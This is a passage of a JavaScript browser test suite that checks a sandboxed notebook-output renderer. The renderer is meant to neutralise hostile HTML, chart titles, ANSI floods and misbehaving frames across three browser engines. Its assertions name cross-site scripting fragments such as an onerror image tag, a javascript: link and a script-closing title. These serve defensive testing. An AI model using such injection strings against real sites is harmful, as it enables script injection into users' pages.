  check(c.clobberTable.tables === 1 && c.clobberTable.attrs.every((a) => /^(div\[(class|tabindex|role|aria-label)=|table\[class=pycage-table\])/.test(a)), `clobberTable: rebuilt with no id or name (${c.clobberTable.attrs.join(" ")})`);
  const allowedAttr = /^(div\[(class|tabindex|role|aria-label)=|table\[class=pycage-table\]|td\[(colspan|rowspan)=\d+\]|th\[(colspan|rowspan)=\d+\]|th\[scope=(row|col|rowgroup|colgroup)\]|col(group)?\[span=\d+\])/;
  check(c.tableAttrs.tables === 1 && c.tableAttrs.attrs.every((a) => allowedAttr.test(a)), `tableAttrs: only bounded spans and scope survive (${c.tableAttrs.attrs.join(" ")})`);
  check(c.tableAttrs.attrs.includes("td[colspan=1000]") && c.tableAttrs.attrs.includes("colgroup[span=1000]") && !c.tableAttrs.attrs.some((a) => a.startsWith("td[rowspan")), "tableAttrs: colspan 99999 is clamped to 1000, rowspan -1 dropped");
  check(c.styleInCell.tables === 1 && c.styleInCell.text.includes("cell") && !c.styleInCell.text.includes("@import"), "a <style> inside a cell is dropped, its text never shown or applied");
  const t50 = c.table50MB;
  check(t50.tables === 1 && t50.rows === 100 && t50.notices.some((n) => /Table cut: showing 100 rows \(maxTableRows 100, maxTableCells 3,000\), not (at least )?[\d,]+ more rows\. Its HTML is 47\.7 MB; the first/.test(n)), `a 50 MB table: 100 rows rebuilt in ${t50.ms} ms, and a notice says it was cut (${t50.notices.join(" | ")})`);
  check(c.bigHtml.frames === 0 && c.bigHtml.notices.some((n) => n.includes("over maxHtmlChars")), "a 6 MB HTML output is not framed; a notice says so");

  // --- what is shown, and how ----------------------------------------------
  check(c.markdown.frames === 0 && c.markdown.text.includes("<script>") && c.markdown.text.includes("[image: i]"), "markdown: inline HTML is text, images are alt text");
  check(c.latex.text.includes("\\href{javascript:") && c.latex.frames === 0, "LaTeX without a renderer is shown as its source");
  const [svgImg, ...badImgs] = c.figures.imgs;
  check(c.figures.imgs.length === 1 && svgImg.alt === "Hostile chart" && svgImg.src.startsWith("data:image/svg+xml;base64,"), `an SVG figure is an <img> of a data: URL, alt from its <title> (${JSON.stringify(c.figures.imgs)})`);
  check(badImgs.length === 0 && c.figures.notices.length === 1 && c.figures.notices[0].includes("image/png") && c.figures.text.includes("<object>"), `a PNG that is not one is a notice, a JPEG that is not bytes falls back to text/plain (${c.figures.notices.join(" | ")})`);
  check(c.stdout.text.includes("<script>") && c.stdout.text.includes("red link") && !c.stdout.text.includes("\x1b"), "stdout: markup is text, escape sequences are gone");
  check(c.ansiFlood.notices.length === 0 && c.ansiFlood.buttons.join() === "Show all", `400,000 ANSI codes: collapsed, rendered in ${c.ansiFlood.ms} ms`);
  check(c.error.text.includes(`<img src=x onerror=`) && c.error.text.includes("Traceback"), "the error's type, message and traceback are text");
  check(c.notices.notices.some((n) => n.includes("timed out")) && c.notices.notices.some((n) => n.includes("reset (<b>timeout</b>)")) && c.notices.notices.some((n) => n.includes("maxOutputBytes")) && c.notices.notices.some((n) => n.includes("10000 outputs were dropped") && n.includes("... and 9,980 more")) && c.notices.notices.some((n) => n.includes("protocol")) && c.notices.notices.some((n) => n.includes("lost")), `notices: timeout, reset, truncation, 10,000 dropped outputs (20 listed), protocol, lost files (${c.notices.notices.map((n) => n.slice(0, 40)).join(" | ")})`);
  check(c.oddItems.notices.length >= 3 && c.oddItems.text.includes('"a"'), `malformed output items become notices (${c.oddItems.notices.length})`);

  // Fixtures.
  const fx = (file) => c[`fixture:${file}`];
  for (const f of fixtures) {
    const info = fx(f.file);
    if (f.expect === "table") check(info.tables >= 1 && info.frames === 0 && (f.contains ?? []).every((t) => info.text.includes(t)), `${f.file}: rebuilt as a table in the page (${info.rows} rows, ${info.ms} ms${f.contains ? `, shows ${f.contains.map((t) => JSON.stringify(t)).join(" ")}` : ""})`);
    if (f.expect === "frame") check(info.frames === 1 && info.tables === 0, `${f.file}: shown in a nested frame (${info.frameHeights} px high)`);
  }
  check(fx("pandas_multiindex.html").attrs.includes("th[colspan=2]") && fx("pandas_multiindex.html").attrs.includes("th[rowspan=3]"), "a MultiIndex keeps its colspan and rowspan");
  check(fx("pandas_2000_rows.html").rows === 100 && fx("pandas_2000_rows.html").notices.some((n) => n.startsWith("Table cut") && n.includes("1,901 more rows")), `to_html of 2000 rows: 100 rebuilt, the cut said (${fx("pandas_2000_rows.html").notices})`);
  check(c.plotlyUnconfigured.frames === 0 && c.plotlyUnconfigured.notices.some((n) => n.includes("plotlyUrl")), "plotly's HTML without plotly.js configured: a notice, no frame");
  if (PLOTLY_URL) {
    const heights = await browser.run(plotlyHeights);
    check(Object.values(heights).every((h) => h > 300 && h <= 2000), `plotly.js drew: each plotly frame (cdn, full, JSON, hostile JSON) is sized by its height message (${JSON.stringify(heights)})`);
  } else check(false, "plotly.js found in the Python plotly package (for PLOTLY_URL)");
  await browser.plotted?.(check);
  // --- Vega-Lite (Altair) -----------------------------------------------------
  const v = (name) => c[name] ?? {};
  check(v("vegaUnconfigured").frames === 0 && v("vegaUnconfigured").notices.some((n) => n.includes("A Vega-Lite chart is not drawn") && n.includes("options.vegaUrls")) && v("vegaUnconfigured").text.includes("alt.Chart(...)"), `Altair's spec without vega configured: a notice, then its text/plain (${v("vegaUnconfigured").notices})`);
  check(v("altairHtmlUnconfigured").frames === 0 && v("altairHtmlUnconfigured").notices.some((n) => n.includes("options.vegaUrls")), "Altair's HTML without vega configured: a notice, no frame");
  check(v("vegaDataUrl").frames === 3 && !newHits().some((h) => h.includes("vega")), `specs whose data and image marks name the listener: framed, and nothing reached it (${newHits().filter((h) => h.includes("vega"))})`);
  if (VEGA_URLS) {
    const heights = await browser.run(vegaHeights);
    check(Object.values(heights).every((h) => h > 300 && h <= 2000), `vega-embed drew: Altair's spec, its HTML, both in one bundle, and the hostile title are each sized by their height message (${JSON.stringify(heights)})`);
    const marks = await browser.vegaMarks(["fixture:altair_spec.json", "fixture:altair_chart.html", "altairBundle", "vegaHostileTitle"]);
    check(Object.keys(marks).length === 4 && Object.values(marks).every((m) => m.marks > 0), `each inner frame holds vega's drawing, an svg or canvas mark (${JSON.stringify(marks)})`);
    check(marks["fixture:altair_spec.json"]?.title === "Altair bars" && marks.vegaHostileTitle?.title.includes("</script><script>"), `the titles are drawn as SVG text, the hostile one too (${JSON.stringify(marks.vegaHostileTitle)})`);
    check(v("fixture:altair_spec.json").frameTitles?.[0] === "Vega-Lite chart: Altair bars", `the frame's title is the chart's (${v("fixture:altair_spec.json").frameTitles})`);
    check(v("altairBundle").frames === 1 && v("altairBundle").frameTitles[0] === "Vega-Lite chart: Altair bars" && v("altairBundle").notices.length === 0, "a bundle with Altair's HTML and its spec: the spec is drawn, in one frame");
  } else check(false, "vega, vega-lite and vega-embed in node_modules (npm ci), for VEGA_URLS");

  check(r.unscoped.length === 0 && r.selectors > 50, `all ${r.selectors} CSS rules are under .pycage-render (${r.unscoped.slice(0, 3)})`);
  check(r.adopted === 1, `the CSS is installed once per document (${r.adopted} adopted sheet)`);
  check(!/monospace/.test(r.outsideStyle) && r.outsideStyle !== "", `elements outside are untouched (font ${r.outsideStyle})`);

  // --- the handle --------------------------------------------------------------
  const h = await browser.run(handlePage, { L });
  check(h.order.join("|") === "first|second|third|[frame]|fifth and more sixth|42", `outputs in their true order, then the result (${h.order.join(" | ")})`);
  check(h.frameKept, "update() keeps a frame already shown (it does not reload) and re-renders the stream that grew");
  check(h.frameHeight === 139 || (h.frameHeight > 120 && h.frameHeight < 200), `a frame's height follows its content (${h.frameHeight} px for a 123 px body + padding)`);
  check(h.link.download === "re_p_ort_.html" && h.link.href === "blob:" && h.link.type === "application/octet-stream" && h.link.text === "dir/re<p>ort?.html", `files: a download link, sanitised name, octet-stream blob (${JSON.stringify(h.link)})`);
  check(h.revoked, "dispose() revokes the files' blob: URLs");
  check(!h.afterDispose.inPage, "dispose() removes the rendered output");
  check(h.collapsedLines <= 202 && h.aria === "false" && h.buttonText === "Show all", `1000 lines are collapsed to 200 with a "Show all" button (${h.collapsedLines} lines)`);
  check(h.errors.join() === "TypeError:execution,TypeError:execution,TypeError:container,TypeError:maxFrames,TypeError:scriptUrls[0],TypeError:colour", `bad input and options are TypeErrors naming the field (${h.errors.join(", ")})`);
  check(h.latex === "rendered:$x^2$" && h.latexThrows === "$y$", "a configured LaTeX renderer is used; one that throws falls back to the source");
  check(h.themed.light.bg !== h.themed.dark.bg && h.themed.light.red !== h.themed.dark.red, `light and dark themes (${JSON.stringify(h.themed)})`);
  await browser.keyboard?.(check, h);

  // Expanding the 400,000-code ANSI flood keeps the page responsive.
  const expandStall = await browser.run(expandFlood);
  check(expandStall.worst < MAX_STALL_MS, `"Show all" on 4,000,000 characters of ANSI (expanded up to maxExpandedChars, 200,000): worst timer gap ${expandStall.worst} ms, ${expandStall.spans} spans, ${expandStall.chars} characters`);

  const disposed = await browser.run(disposeFrames);
  check(disposed.framesBefore > 0, `frames were on the page before the end (${disposed.framesBefore})`);
  check(disposed.added === 1 && disposed.removed === 1, `dispose() removes its frames (${JSON.stringify(disposed)})`);
  check(typeof r.messageListeners === "number", `message listeners registered by the corpus: ${r.messageListeners} (one per render with frames)`);

  // --- frames that flood, lie or spin ----------------------------------------
  const floodErrors = [];
  console.log(`(${browser.label}corpus and handle: ${((performance.now() - t0) / 1000).toFixed(1)} s)`);
  for (const [name, [body, watchMs]] of Object.entries(floods)) {
    // Where frames run on the page's thread, a frame that spins or posts
    // 300,000 messages in one loop holds the page whoever rendered it: the
    // same frame bare stalls the page as long (4.0 s and 4.0 s spinning;
    // 4.1-5.1 s and 4.3-4.4 s for the loop, bare and rendered, Firefox and
    // WebKit). Not run there, to keep the step short.
    if (browser.sharedProcess && (name === "busyLoop" || name === "syncFlood")) continue;
    await browser.fresh();
    const f = await browser.run(floodPage, { body, watchMs });
    floodErrors.push(...f.errors.map((e) => `${name}: ${e}`));
    if (name === "lies") {
      check(f.removedAfter === null && f.heights.every((h) => h >= 0 && h <= 2000) && f.heights.includes(2000) && f.heights.includes(0), `lies: heights of 1e9, -5, NaN, Infinity, "999999", [5000], 1e300 are clamped or ignored; the frame stays (${f.heights.join(", ")} px; worst gap ${f.worst} ms)`);
    } else if (name === "busyLoop") {
      // Where the frame runs on the page's thread (Firefox, WebKit), its loop
      // holds the page whoever rendered it: judged against the bare frame.
      let baseline = null;
      if (f.worst >= MAX_STALL_MS) {
        await browser.fresh();
        baseline = await browser.run(barePage, { body, ms: watchMs });
      }
      check(f.removedAfter === null && f.worst < Math.max(MAX_STALL_MS, (baseline ?? 0) + 200), `busyLoop: a frame that spins for 4 s does not hold the page longer than the bare frame does (worst gap ${f.worst} ms${baseline === null ? "" : `; the same frame bare, no renderer: ${baseline} ms`})`);
    } else if (name === "grandchildFlood" && f.removedAfter === null && f.messages <= 1) {
      // WebKit applies the inner document's frame-src 'none' to a srcdoc
      // frame too: the grandchild never runs.
      check(true, `${name}: the grandchild frame never ran (its frame refused by frame-src 'none'; ${f.messages} message)`);
    } else if (f.removedAfter === null && f.worst < MAX_STALL_MS) {
      // WebKit copies each 5 MB message on the sending frame's side (the
      // page's thread too): they arrive under the rate limit and cost
      // nothing to read, so the frame stays, and the page does not stall.
      check(true, `${name}: the frame's messages arrived under the rate limit and the page stayed responsive (worst gap ${f.worst} ms, ${f.messages} messages in ${watchMs} ms)`);
    } else {
      check(f.removedAfter !== null && f.text.includes("too many messages"), `${name}: the frame is removed with a notice (after ${f.removedAfter} ms)`);
      // The bare baseline only when the renderer's page stalled: it costs a page load.
      let baseline = null;
      if (f.worst >= MAX_STALL_MS || browser.alwaysBaseline) {
        await browser.fresh();
        baseline = await browser.run(barePage, { body, ms: f.removedAfter ?? watchMs });
      }
      check(f.worst < Math.max(MAX_STALL_MS, (baseline ?? 0) + 200), `${name}: the page stays responsive (worst gap ${f.worst} ms${baseline === null ? "" : `; the same frame bare, no renderer: ${baseline} ms`})`);
    }
  }
  check(floodErrors.length === 0 && browser.pageErrors().length === 0, `no uncaught error or dialog in the flood pages (${[...floodErrors, ...browser.pageErrors()].slice(0, 3).join(" | ")})`);

  // Still nothing at the listener after everything.
  await new Promise((res) => setTimeout(res, 500));
  check(newHits().length === 0, `still no request at the listener at the end (${newHits().length})`);
}

// What vega drew in an inner frame: its marks (SVG items or the canvas) and
// its title's text (SVG only). Run inside the inner frame by the driver.
function vegaDrawn() {
  return {
    marks: document.querySelectorAll(".vega-embed svg .role-mark > *, .vega-embed canvas").length,
    title: document.querySelector(".vega-embed svg .role-title-text")?.textContent ?? "",
  };
}

// --- Chromium, through Playwright ---------------------------------------------
async function chromiumSuite() {
  const browser = await launch();
  let page = null;
  let context = null;
  const dialogs = [];
  const open = async () => {
    await context?.close();
    context = await browser.newContext();
    page = await context.newPage();
    if (process.env.RENDER_DEBUG) page.on("console", (m) => console.log(`[page ${m.type()}] ${m.text().slice(0, 200)}`));
    page.on("dialog", (d) => {
      dialogs.push(`dialog: ${d.message()}`);
      d.dismiss().catch(() => {});
    });
    await page.goto(`${U}/`);
  };
  try {
    await suite({
      label: "",
      alwaysBaseline: true,
      fresh: open,
      run: (fn, arg) => page.evaluate(fn, arg),
      pageErrors: () => dialogs,
      // Plots drawn inside their frames: Playwright reaches into the opaque frames.
      async plotted(check) {
        const plotted = [];
        for (const frame of page.frames()) {
          const n = await frame.evaluate(() => document.querySelectorAll(".main-svg").length).catch(() => 0);
          const title = await frame.evaluate(() => document.querySelector(".gtitle")?.textContent ?? "").catch(() => "");
          if (n) plotted.push(title);
        }
        check(plotted.length >= 4, `plotly.js drew in ${plotted.length} frames (cdn, full, JSON, hostile JSON): titles ${JSON.stringify(plotted)}`);
        check(plotted.includes("Scatter of y by x") && plotted.includes("Bars"), "the fixtures' titles are drawn");
        check(plotted.some((t) => t.includes("</script><script>")), "a hostile plotly title is drawn as text");
      },
      // The inner frame of each case, found through its outer frame's element.
      async vegaMarks(names) {
        const out = {};
        for (const frame of page.frames()) {
          const outer = frame.parentFrame();
          if (!outer || outer === page.mainFrame()) continue;
          const name = await (await outer.frameElement()).evaluate((f) => f.closest("[data-case]")?.dataset.case);
          if (names.includes(name)) out[name] = await frame.evaluate(vegaDrawn);
        }
        return out;
      },
      // The keyboard and prefers-color-scheme, which Playwright emulates.
      async keyboard(check, h) {
        const expanded = await page.evaluate(() => {
          const buttons = [...document.querySelectorAll(".pycage-render button")].filter((b) => b.textContent === "Show all");
          const b = buttons[buttons.length - 1];
          b.focus();
          return document.activeElement === b;
        });
        await page.keyboard.press("Enter");
        const after = await page.evaluate(() => {
          const b = document.activeElement;
          return { text: b.textContent, aria: b.getAttribute("aria-expanded"), lines: document.getElementById(b.getAttribute("aria-controls")).textContent.split("\n").length };
        });
        check(expanded && after.text === "Show less" && after.aria === "true" && after.lines > 1000, `the button is focusable and Enter expands the text (${JSON.stringify(after)})`);
        await page.emulateMedia({ colorScheme: "dark" });
        const autoDark = await page.evaluate(() => getComputedStyle(document.querySelectorAll(".pycage-render")[document.querySelectorAll(".pycage-render").length - 1]).backgroundColor);
        check(autoDark !== h.themed.auto && autoDark === h.themed.dark.bg, `theme "auto" follows prefers-color-scheme (${h.themed.auto} -> ${autoDark})`);
        await page.emulateMedia({ colorScheme: "light" });
      },
    });
  } finally {
    await browser.close();
  }
}

// --- Firefox and WebKitGTK, through WebDriver (tests/e2e/webdriver.mjs) --------
// The same page functions, run by a <script> the test adds to the page, so
// that they run in the page's own realm as an app's code does (Firefox runs
// WebDriver scripts in a realm of their own, whose Uint8Array is not the
// page's); the result comes back through the DOM.
async function webdriverSuite(engine) {
  const { base, stop } = await driver(engine);
  let s = null;
  let calls = 0;
  try {
    const { s: made, id } = await sessionWithId(base, engine);
    s = made;
    const call = webdriverCall(`${base}/session/${id}`);
    await s.timeouts({ script: 30_000 });
    tallyCheck(true, `${engine}: ${s.capabilities.browserName} ${s.capabilities.browserVersion}`);
    await suite({
      label: `${engine}: `,
      sharedProcess: true,
      fresh: () => s.go(`${U}/`),
      async run(fn, arg) {
        const key = `pycage-test-result-${++calls}`;
        const script = `(${fn})(${JSON.stringify(arg ?? null)}).then((value) => ({ value }), (e) => ({ error: String((e && e.stack) || e) }))
          .then((r) => { const t = document.createElement("template"); t.id = ${JSON.stringify(key)}; t.dataset.result = JSON.stringify(r); document.head.append(t); });`;
        await s.js("const el = document.createElement('script'); el.textContent = arguments[0]; document.head.append(el);", script);
        const end = Date.now() + 180_000;
        for (;;) {
          const got = await s.js("const t = document.getElementById(arguments[0]); if (!t) return null; t.remove(); return t.dataset.result;", key);
          if (got) {
            const r = JSON.parse(got);
            if (r.error) throw new Error(r.error);
            return r.value;
          }
          if (Date.now() > end) throw new Error(`${fn.name} did not finish in 180 s`);
          await new Promise((res) => setTimeout(res, 100));
        }
      },
      // An alert would have failed the next command ("unexpected alert open").
      pageErrors: () => [],
      // WebDriver may enter the opaque frames the page cannot: the case's
      // outer frame, then the inner one, then back to the page.
      async vegaMarks(names) {
        const out = {};
        const find = async (css) => Object.values(await call("POST", "/element", { using: "css selector", value: css }))[0];
        const into = async (element) => call("POST", "/frame", { id: { "element-6066-11e4-a52e-4f735466cecf": element } });
        for (const name of names) {
          try {
            await into(await find(`[data-case="${name}"] iframe`));
            await into(await find("iframe"));
            out[name] = await call("POST", "/execute/sync", { script: `return (${vegaDrawn})()`, args: [] });
          } finally {
            await call("POST", "/frame", { id: null });
          }
        }
        return out;
      },
    });
  } finally {
    if (s) await s.quit();
    stop();
  }
}

// webdriver.mjs's session keeps its id to itself; the frame commands
// (vegaMarks) need it, so it is read from the driver's answer to POST /session.
async function sessionWithId(base, engine) {
  const realFetch = globalThis.fetch;
  let id = null;
  globalThis.fetch = async (url, init) => {
    const res = await realFetch(url, init);
    if (String(url) === `${base}/session` && init?.method === "POST") id = (await res.clone().json()).value?.sessionId ?? null;
    return res;
  };
  try {
    const s = await session(base, engine);
    if (!id) throw new Error("no session id in the driver's answer");
    return { s, id };
  } finally {
    globalThis.fetch = realFetch;
  }
}

/** A WebDriver command of a session: `call(method, path, body)`, its value or a thrown error. */
function webdriverCall(at) {
  return async (method, path, body) => {
    const res = await fetch(`${at}${path}`, { method, headers: { "content-type": "application/json" }, body: body === undefined ? undefined : JSON.stringify(body) });
    const { value } = await res.json();
    if (value && value.error) throw new Error(`${path}: ${value.error}: ${value.message}`);
    return value;
  };
}

// ---------------------------------------------------------------------------
const engines = process.argv.slice(2).length ? process.argv.slice(2) : ["chromium", "firefox", "webkit"];
try {
  for (const engine of engines) {
    const t = performance.now();
    try {
      if (engine === "chromium") await chromiumSuite();
      else if (engine === "firefox" || engine === "webkit") await webdriverSuite(engine);
      else tallyCheck(false, `known engine (${engine}: chromium, firefox or webkit)`);
    } catch (e) {
      tallyCheck(false, `${engine}: the test ran to its end (${e.stack ?? e})`);
    }
    console.log(`(${engine}: ${((performance.now() - t) / 1000).toFixed(1)} s)`);
  }
} finally {
  listener.close();
  site.close();
  console.log(`(${((performance.now() - started) / 1000).toFixed(1)} s)`);
  finish();
}
